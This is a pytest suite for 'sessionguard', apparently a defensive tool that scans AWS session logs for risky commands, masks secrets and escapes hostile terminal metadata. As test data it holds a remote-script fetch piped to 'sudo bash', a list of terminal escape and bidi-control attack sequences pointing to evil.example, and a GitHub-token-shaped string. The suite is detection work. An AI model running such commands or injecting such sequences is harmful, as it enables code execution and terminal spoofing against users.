"""`sessionguard scan` and `sessionguard rules` as a security engineer runs them."""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
from pathlib import Path

import boto3
from moto import mock_aws
from sessionguard.cli import main

EVENTS = Path(__file__).resolve().parents[2] / "events"


def run(*argv: str, stdin: str = "") -> tuple[int, list[dict[str, object]], str]:
    out, err = io.StringIO(), io.StringIO()
    status = main(list(argv), stdin=io.StringIO(stdin), stdout=out, stderr=err)
    return status, [json.loads(line) for line in out.getvalue().splitlines()], err.getvalue()


def test_scan_writes_one_alert_record_per_match_with_the_documented_fields() -> None:
    status, records, stderr = run("scan", "--min-severity", "medium", str(EVENTS / "session-risky.jsonl"))

    assert status == 0
    assert records
    for record in records:
        assert set(record) == {
            "type", "session_id", "instance_id", "user", "rule_id", "title", "severity", "techniques", "command",
            "event_time",
        }  # fmt: skip
        assert record["type"] == "alert"
        assert record["severity"] in {"medium", "high", "critical"}
    assert "alerts" in stderr


def test_scan_transcript_writes_masked_lines() -> None:
    status, records, _ = run("scan", "--transcript", str(EVENTS / "session-risky.jsonl"))

    assert status == 0
    lines = [r for r in records if r["type"] == "line"]
    assert {r["kind"] for r in lines} == {"command", "output"}
    assert "Hunter2-Prod!" not in json.dumps(records)
    assert any("[MASKED:" in str(r["text"]) for r in lines)


def test_scan_reads_every_supported_format() -> None:
    for name in (
        "session-stream.jsonl",
        "subscription-data-message.json",
        "get-log-events.json",
        "filter-log-events.json",
        "transcript-jane.roe-0b7e9d1c4a2f8e6d5.log",
    ):
        status, records, stderr = run("scan", "--transcript", str(EVENTS / name))
        assert status == 0, (name, stderr)
        assert any(r["type"] == "line" and r["kind"] == "command" for r in records), name


def test_scan_reads_stdin() -> None:
    status, records, _ = run(
        "scan", "--min-severity", "medium", "-", stdin=(EVENTS / "session-risky.jsonl").read_text()
    )

    assert status == 0
    assert any(r["type"] == "alert" for r in records)


def test_unreadable_records_are_named_and_the_rest_still_scanned(tmp_path: Path) -> None:
    good = (EVENTS / "session-risky.jsonl").read_text().splitlines()
    bad = tmp_path / "mixed.jsonl"
    bad.write_text("\n".join([good[0], "{not json", *good[1:], '{"sessionId": 7}']) + "\n")

    status, records, stderr = run("scan", "--min-severity", "medium", str(bad))

    assert status == 2
    assert f"{bad}: line 2" in stderr
    assert "line 13" in stderr or "line 12" in stderr
    assert any(r["type"] == "alert" for r in records)


def test_missing_file_is_reported_and_others_scanned(tmp_path: Path) -> None:
    status, records, stderr = run("scan", str(tmp_path / "nope.jsonl"), str(EVENTS / "session-risky.jsonl"))

    assert status == 2
    assert "nope.jsonl" in stderr
    assert records


def test_rules_list_names_every_rule() -> None:
    out = io.StringIO()
    assert main(["rules", "list"], stdout=out) == 0
    rows = out.getvalue().splitlines()
    assert len(rows) >= 30
    assert all(len(row.split("\t")) == 4 for row in rows)


def test_rules_test_runs_every_example() -> None:
    out, err = io.StringIO(), io.StringIO()
    assert main(["rules", "test"], stdout=out, stderr=err) == 0, err.getvalue()
    assert "0 example failures" in out.getvalue()


def test_console_script_is_installed() -> None:
    result = subprocess.run(
        [str(Path(sys.executable).with_name("sessionguard")), "rules", "list"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0
    assert result.stdout.count("\n") >= 30


def test_replay_dlq_dry_run_rebuilds_parked_batches_without_invoking() -> None:
    with mock_aws():
        sqs = boto3.client("sqs")
        queue_url = sqs.create_queue(QueueName="sessionguard-alert-failures")["QueueUrl"]
        record = json.loads((EVENTS / "alerts-lambda-on-failure.json").read_text())
        sqs.send_message(QueueUrl=queue_url, MessageBody=json.dumps(record))

        status, records, stderr = run(
            "replay-dlq", "--queue-url", queue_url, "--function", "sessionguard-SessionAlerts", "--dry-run"
        )

    assert status == 0, stderr
    (report,) = records
    assert report["dry_run"] is True
    assert report["received"] == 1
    assert report["would_replay"] == 1


# --- hostile and careless input (issue #13, items 10-13) ----------------------------------------------------


def test_scan_refuses_a_binary_file_named_log(tmp_path: Path) -> None:
    binary = tmp_path / "i-0a1b2c3d4e5f60718.log"
    binary.write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)

    status, records, stderr = run("scan", "--transcript", str(binary), str(EVENTS / "session-risky.jsonl"))

    assert status == 2
    assert f"{binary}: binary" in stderr
    assert {r["session_id"] for r in records} == {"john.doe-0c9d8e7f6a5b4c3d2"}  # the other file is still scanned


def test_scan_reads_gzipped_exports_and_transcripts_as_their_plain_form(tmp_path: Path) -> None:
    for name in ("get-log-events.json", "session-risky.jsonl", "transcript-jane.roe-0b7e9d1c4a2f8e6d5.log"):
        packed = tmp_path / (name + ".gz")
        packed.write_bytes(gzip.compress((EVENTS / name).read_bytes()))

        plain = run("scan", "--transcript", str(EVENTS / name))
        unpacked = run("scan", "--transcript", str(packed))

        assert unpacked[0] == 0, unpacked[2]
        assert unpacked[1] == plain[1], name
        assert plain[1], name


def test_scan_reports_a_truncated_gzip_as_one_error_naming_gzip(tmp_path: Path) -> None:
    packed = gzip.compress((EVENTS / "session-risky.jsonl").read_bytes())
    truncated = tmp_path / "session-risky.jsonl.gz"
    truncated.write_bytes(packed[: len(packed) // 2])

    status, records, stderr = run("scan", str(truncated))

    assert status == 2
    problems = [line for line in stderr.splitlines() if line.startswith("sessionguard: ") and str(truncated) in line]
    assert len(problems) == 1
    assert "gzip" in problems[0]
    assert "truncated" in problems[0]
    assert records == []


def test_scan_reports_the_one_syntax_error_of_a_pretty_printed_export(tmp_path: Path) -> None:
    text = (EVENTS / "get-log-events.json").read_text()
    broken_at = text.index('"ingestionTime"')  # the comma before it goes
    comma = text.rindex(",", 0, broken_at)
    broken = tmp_path / "get-log-events.json"
    broken.write_text(text[:comma] + text[comma + 1 :])
    line = text.count("\n", 0, comma) + 2  # json reports the token after the missing comma
    column = broken_at - text.rindex("\n", 0, broken_at)

    status, records, stderr = run("scan", str(broken))

    assert status == 2
    problems = [row for row in stderr.splitlines() if row.startswith(f"sessionguard: {broken}")]
    assert problems == [f"sessionguard: {broken}: line {line} column {column}: not valid JSON: Expecting ',' delimiter"]
    assert records == []


def _hostile_event(**changes: object) -> str:
    event: dict[str, object] = json.loads((EVENTS / "session-risky.jsonl").read_text().splitlines()[0])
    event.update(changes, sessionData=["sh-4.2$ curl -s https://x.example/i.sh | sudo bash"])
    return json.dumps(event) + "\n"


TERMINAL_ATTACKS = ("\x1b]8;;https://evil.example\x07", "\x1b[2J", "\u202e", "\u2066", "\x9b31m", "\x85", "\x07")


def test_scan_escapes_hostile_metadata_on_the_terminal_and_in_json() -> None:
    session_id = "jane\x1b]0;owned\x07-\u202e0b7e9d1c\x9b2J-\x1b[31m"
    status, records, stderr = run(
        "scan", "--transcript", "-", stdin=_hostile_event(sessionId=session_id, target={"id": "i-0\x1b[2J\u2066\x85"})
    )

    assert status == 0
    assert any(r["type"] == "alert" for r in records)
    assert session_id in {r["session_id"] for r in records}  # JSON escapes the characters, it keeps them
    out = io.StringIO()
    main(["scan", "--transcript", "-"], stdin=io.StringIO(_hostile_event(sessionId=session_id)), stdout=out)
    for attack in TERMINAL_ATTACKS:
        assert attack not in stderr
        assert attack[0] not in stderr
        assert attack[0] not in out.getvalue()
    assert "jane^[]0;owned^G-\\u202e0b7e9d1c\\x9b2J-^[[31m" in stderr


def test_scan_masks_a_secret_in_the_user_arn_and_the_session_id() -> None:
    token = "ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf"
    hostile = _hostile_event(
        userIdentity={"arn": f"arn:aws:sts::111122223333:assumed-role/Admin/{token}"}, sessionId=f"{token}-0b7e9d1c"
    )
    out, err = io.StringIO(), io.StringIO()

    status = main(["scan", "--transcript", "-"], stdin=io.StringIO(hostile), stdout=out, stderr=err)

    assert status == 0
    assert token not in out.getvalue()
    assert token not in err.getvalue()
    alert = next(json.loads(line) for line in out.getvalue().splitlines() if '"alert"' in line)
    assert alert["user"] == "arn:aws:sts::111122223333:assumed-role/Admin/[MASKED:github-token]"
    assert alert["session_id"] == "[MASKED:github-token]-0b7e9d1c"
